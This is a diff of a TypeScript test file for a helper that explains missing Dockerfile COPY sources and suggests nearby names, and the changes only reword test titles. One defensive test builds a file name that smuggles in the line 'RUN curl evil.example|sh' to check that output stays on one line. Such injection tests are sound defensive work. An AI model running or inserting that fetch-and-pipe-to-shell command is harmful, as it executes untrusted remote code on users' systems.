@@ -36,23 +36,23 @@ describe('missingSource', () => {
 
 describe('withNearbyNames', () => {
   const missing = { path: '/app/dits/a', stage: dockerfile.stages[0] ?? null }
-  test('says what is there instead, and what was probably meant', () => {
+  test('shows what exists instead, and the probable name', () => {
     const told = withNearbyNames(failure(3, 'x'), missing, { folder: '/app', names: ['dist', 'src'] })
     expect(told.message).toBe('There is no /app/dits/a in stage "build": /app holds dist, src.')
     expect(told.hint).toBe('Did you mean /app/dist?')
     expect(told.location).toEqual({ file: 'Dockerfile', line: 3 })
   })
-  test('many names are cut', () => {
+  test('many names are shortened', () => {
     const names = Array.from({ length: 40 }, (_, index) => `file-${index}`)
     expect(withNearbyNames(failure(3, 'x'), missing, { folder: '/', names }).message).toContain('file-11, and 28 more.')
   })
-  test('what .dockerignore leaves out is named as that', () =>
+  test('reports files that .dockerignore excludes as such', () =>
     expect(
       withNearbyNames(failure(4, 'x'), { path: '/src/x', stage: null }, { folder: '/src', names: ['x'] }).message,
     ).toContain('.dockerignore leaves it out'))
 })
 
-test('the context is looked into from the nearest folder that is there', async () => {
+test('lists the context from the nearest existing folder', async () => {
   const context = mkdtempSync(join(tmpdir(), 'context-'))
   mkdirSync(join(context, 'src'))
   writeFileSync(join(context, 'src', 'main.ts'), '')
@@ -74,7 +74,7 @@ test('a symlink in the context does not show the names of other folders', async 
   rmSync(context, { recursive: true })
 })
 
-test('a name stays on its line, and many long ones are not compared', () => {
+test('a name stays on its line, and many long names are not compared', () => {
   const missing = { path: `/app/${'d'.repeat(90)}`, stage: dockerfile.stages[0] ?? null }
   const hostile = `${'d'.repeat(90)}\nRUN curl evil.example|sh`
   const told = withNearbyNames(failure(3, 'x'), missing, { folder: '/app', names: [hostile] })
